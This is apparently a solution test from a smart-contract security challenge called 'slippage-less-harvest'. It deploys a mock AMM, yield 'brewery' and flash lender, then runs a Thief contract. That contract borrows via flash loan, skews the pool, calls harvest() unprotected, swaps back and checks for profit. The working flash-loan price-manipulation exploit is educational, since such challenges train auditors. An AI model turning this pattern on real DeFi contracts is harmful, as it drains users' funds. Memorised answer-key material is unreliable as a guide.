// SPDX-License-Identifier: MIT OR Apache-2.0
pragma solidity ^0.8.27;

import {Basin} from "../slippage-less-harvest/src/Basin.sol";
import {Brewery} from "../slippage-less-harvest/src/Brewery.sol";
import {Field} from "../slippage-less-harvest/src/Field.sol";
import {Feed, FlashLender, Token} from "../slippage-less-harvest/src/Imports.sol";
import {IFlashBorrower} from "../../shared/IFlashBorrower.sol";

interface Vm {
    function prank(address sender) external;
    function roll(uint256 number) external;
    function warp(uint256 time) external;
}

contract Thief is IFlashBorrower {
    Brewery private immutable brewery;
    Basin private immutable basin;
    Token private immutable rye;
    Token private immutable dew;

    constructor(Brewery brewery_, Token rye_, Token dew_) {
        brewery = brewery_;
        basin = brewery_.basin();
        rye = rye_;
        dew = dew_;
        rye.approve(address(basin), type(uint256).max);
        dew.approve(address(basin), type(uint256).max);
    }

    function attack(FlashLender lender, uint256 amount) external {
        lender.flashLoan(this, address(dew), amount, "");
    }

    function onFlashLoan(address, address, uint256 amount, uint256 fee, bytes calldata) external returns (bytes32) {
        basin.swap(address(dew), dew.balanceOf(address(this)), 0, address(this));
        brewery.harvest();
        basin.swap(address(rye), 806_133_171_203_661_215_612_977, 0, address(this));
        dew.approve(msg.sender, amount + fee);
        return keccak256("ERC3156FlashBorrower.onFlashLoan");
    }
}

contract SlippageLessHarvestTest {
    event Profit(uint256 ryes);

    Vm private constant vm = Vm(address(uint160(uint256(keccak256("hevm cheat code")))));

    address private attacker = address(uint160(uint256(keccak256("heist actor attacker"))));
    address private alice = address(uint160(uint256(keccak256("heist actor alice"))));
    address private bob = address(uint160(uint256(keccak256("heist actor bob"))));
    address private carol = address(uint160(uint256(keccak256("heist actor carol"))));
    address private admin = address(uint160(uint256(keccak256("heist actor admin"))));
    Token private rye;
    Token private dew;
    Basin private basin;
    Field private field;
    Feed private feed;
    Brewery private brewery;
    FlashLender private lender;

    function setUp() public {
        vm.roll(1);
        vm.warp(1_700_000_000);
        vm.prank(admin);
        rye = new Token("Rye", "RYE");
        vm.prank(admin);
        dew = new Token("Dew", "DEW");
        vm.prank(admin);
        basin = new Basin(dew, rye);
        vm.prank(admin);
        field = new Field(rye, dew);
        vm.prank(admin);
        feed = new Feed(8, 2e8, admin);
        vm.prank(admin);
        brewery = new Brewery(field, basin, feed);
        vm.prank(admin);
        lender = new FlashLender(5);
        vm.prank(admin);
        rye.mint(alice, 1700000 ether);
        vm.prank(admin);
        rye.mint(bob, 800000 ether);
        vm.prank(admin);
        rye.mint(carol, 1200000 ether);
        vm.prank(admin);
        dew.mint(carol, 600000 ether);
        vm.prank(admin);
        dew.mint(alice, 5000 ether);
        vm.prank(admin);
        rye.mint(attacker, 20000 ether);
        vm.prank(admin);
        dew.mint(attacker, 4000 ether);
        vm.prank(admin);
        dew.mint(admin, 300000 ether);
        vm.prank(admin);
        dew.mint(address(lender), 3000000 ether);
        vm.prank(admin);
        rye.mint(address(lender), 3000000 ether);
        vm.prank(alice);
        rye.approve(address(basin), 1e60);
        vm.prank(alice);
        rye.approve(address(field), 1e60);
        vm.prank(alice);
        rye.approve(address(brewery), 1e60);
        vm.prank(bob);
        rye.approve(address(basin), 1e60);
        vm.prank(bob);
        rye.approve(address(field), 1e60);
        vm.prank(bob);
        rye.approve(address(brewery), 1e60);
        vm.prank(carol);
        rye.approve(address(basin), 1e60);
        vm.prank(carol);
        rye.approve(address(field), 1e60);
        vm.prank(carol);
        rye.approve(address(brewery), 1e60);
        vm.prank(attacker);
        rye.approve(address(basin), 1e60);
        vm.prank(attacker);
        rye.approve(address(field), 1e60);
        vm.prank(attacker);
        rye.approve(address(brewery), 1e60);
        vm.prank(alice);
        dew.approve(address(basin), 1e60);
        vm.prank(bob);
        dew.approve(address(basin), 1e60);
        vm.prank(carol);
        dew.approve(address(basin), 1e60);
        vm.prank(attacker);
        dew.approve(address(basin), 1e60);
        vm.prank(admin);
        dew.approve(address(field), 1e60);
        vm.prank(carol);
        basin.provide(500000 ether, 1000000 ether);
        vm.prank(alice);
        brewery.enter(1500000 ether);
        vm.prank(bob);
        brewery.enter(600000 ether);
        vm.prank(admin);
        field.fund(55555555555555555, 60 days);
        vm.roll(block.number + 36000);
        vm.warp(block.timestamp + 5 days);
    }

    function test_attack_pays() public {
        vm.prank(attacker);
        Thief thief = new Thief(brewery, rye, dew);
        vm.prank(attacker);
        rye.transfer(address(thief), 10_000 ether);
        vm.prank(attacker);
        dew.transfer(address(thief), 2_000 ether);
        // See slippage-less-harvest/optimum.md.
        thief.attack(lender, 2_031_217_432_048_999_995_000_000);
        uint256 profit = rye.balanceOf(address(thief)) + 2 * dew.balanceOf(address(thief)) - 14_000 ether;
        emit Profit(profit);
        require(profit > 39_000 ether, "no profit");
    }
}
